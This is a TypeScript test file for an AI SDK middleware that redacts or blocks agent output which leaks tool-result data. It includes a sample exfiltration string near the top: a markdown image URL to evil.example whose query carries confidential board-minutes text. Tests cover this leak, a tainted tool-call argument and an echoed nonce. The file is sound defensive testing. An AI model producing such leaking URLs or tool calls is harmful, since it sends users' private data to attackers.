import { createOpenAI } from '@ai-sdk/openai';
import { ctxpackMiddleware } from '@ctxpack/ai-sdk';
import { generateText, jsonSchema, stepCountIs, streamText, tool, wrapLanguageModel } from 'ai';
import {
  createMemoryReplayStore,
  generateKeyPair,
  type Payload,
  type ResponseFinding,
  ToolCallBlockedError,
  verifyRequest,
} from 'ctxpack';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type LoopbackProvider,
  type LoopbackReply,
  startLoopbackProvider,
} from './support/loopback-provider.js';

// Issue 14 item 4 for the AI SDK: wrapGenerate / wrapStream check each step's
// answer against that step's payload; a nonce leak rotates the session nonce.
const keys = generateKeyPair();
const PAGE = 'Board minutes: the acquisition of WREN LABS closes on 14 March for 31M.';
const EXFIL = `Summary ![x](https://evil.example/i.png?q=${encodeURIComponent(PAGE.slice(0, 36))}) end.`;

let provider: LoopbackProvider;
let answer: (json: Record<string, unknown>) => LoopbackReply = () => ({ text: 'ok' });
const failures: unknown[] = [];

beforeAll(async () => {
  const replay = createMemoryReplayStore();
  provider = await startLoopbackProvider({
    onRequest: async ({ request }) => {
      try {
        await verifyRequest(request, { keys: [keys.publicKey], tenant: 'acme', audience: 'gateway', replay });
      } catch (error) {
        failures.push(error);
        throw error;
      }
    },
    reply: ({ json }) => {
      const tools = (json['messages'] as { role: string }[]).filter((m) => m.role === 'tool').length;
      return tools === 0
        ? { toolCalls: [{ id: 'call_0', name: 'read_page', arguments: '{}' }] }
        : answer(json);
    },
  });
});
afterAll(() => provider.close());

function agent(extra: Partial<Parameters<typeof ctxpackMiddleware>[0]> = {}) {
  const payloads: Payload[] = [];
  const findings: ResponseFinding[] = [];
  const middleware = ctxpackMiddleware({
    tenant: 'acme',
    signer: keys,
    onPayload: (p) => {
      payloads.push(p);
    },
    output: {
      onFindings: (fs) => {
        for (const f of fs) findings.push(f);
      },
    },
    ...extra,
  });
  const openai = createOpenAI({ apiKey: 'test', baseURL: provider.baseURL, fetch: middleware.fetch });
  return { model: wrapLanguageModel({ model: openai.chat('gpt-4o-mini'), middleware }), payloads, findings };
}

const tools = {
  read_page: tool({
    description: 'Reads the page',
    inputSchema: jsonSchema<Record<string, never>>({ type: 'object', properties: {} }),
    execute: async () => PAGE,
  }),
};
const nonceOf = (p: Payload | undefined) =>
  /<data-([0-9a-f]{32}) /.exec(JSON.stringify(p?.request))?.[1] as string;

describe('ctxpackMiddleware checks each step’s answer', () => {
  it('generateText: an image URL carrying the tool result is redacted', async () => {
    answer = () => ({ text: EXFIL });
    const { model, findings } = agent();
    const result = await generateText({
      model,
      tools,
      stopWhen: stepCountIs(3),
      prompt: 'Summarize the page.',
    });
    expect(result.steps.length).toBe(2);
    expect(result.text).not.toContain('evil.example');
    expect(result.text.startsWith('Summary ')).toBe(true);
    expect(result.text.endsWith(' end.')).toBe(true);
    expect(findings.map((f) => f.kind)).toContain('tainted-url');
    expect(failures).toEqual([]);
  });

  it('streamText: the URL split across deltas is redacted', async () => {
    answer = () => ({ text: EXFIL });
    const { model, findings } = agent();
    const result = streamText({ model, tools, stopWhen: stepCountIs(3), prompt: 'Summarize the page.' });
    let text = '';
    for await (const delta of result.textStream) text += delta;
    expect(text).not.toContain('evil.example');
    expect(text.endsWith(' end.')).toBe(true);
    expect(findings.map((f) => f.kind)).toContain('tainted-url');
  });

  it('a tool call that copies the page into a recipient is blocked when asked', async () => {
    answer = () => ({
      toolCalls: [{ id: 'call_1', name: 'read_page', arguments: JSON.stringify({ to: PAGE.slice(0, 30) }) }],
    });
    const { model } = agent({ output: { actions: { 'tainted-argument': 'block' } } });
    const error = await generateText({ model, tools, stopWhen: stepCountIs(3), prompt: 'Go.' }).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(ToolCallBlockedError.isInstance(error)).toBe(true);
  });

  it('a step whose answer repeats the nonce rotates it for the next step', async () => {
    const sessionKey = new Uint8Array(32).fill(3);
    let leaked = '';
    answer = (json) => {
      leaked = /<data-([0-9a-f]{32}) /.exec(JSON.stringify(json))?.[1] ?? '';
      return { text: `marker ${leaked}` };
    };
    const { model, payloads, findings } = agent({ sessionKey });
    const first = await generateText({ model, tools, stopWhen: stepCountIs(3), prompt: 'Go.' });
    expect(first.text).not.toContain(leaked);
    expect(findings.map((f) => f.kind)).toContain('nonce-leak');
    const before = nonceOf(payloads[1]);
    expect(before).toBe(leaked);
    answer = () => ({ text: 'fine' });
    await generateText({ model, tools, stopWhen: stepCountIs(3), prompt: 'Go.' });
    expect(nonceOf(payloads[3])).toMatch(/^[0-9a-f]{32}$/);
    expect(nonceOf(payloads[3])).not.toBe(before);
  });
});
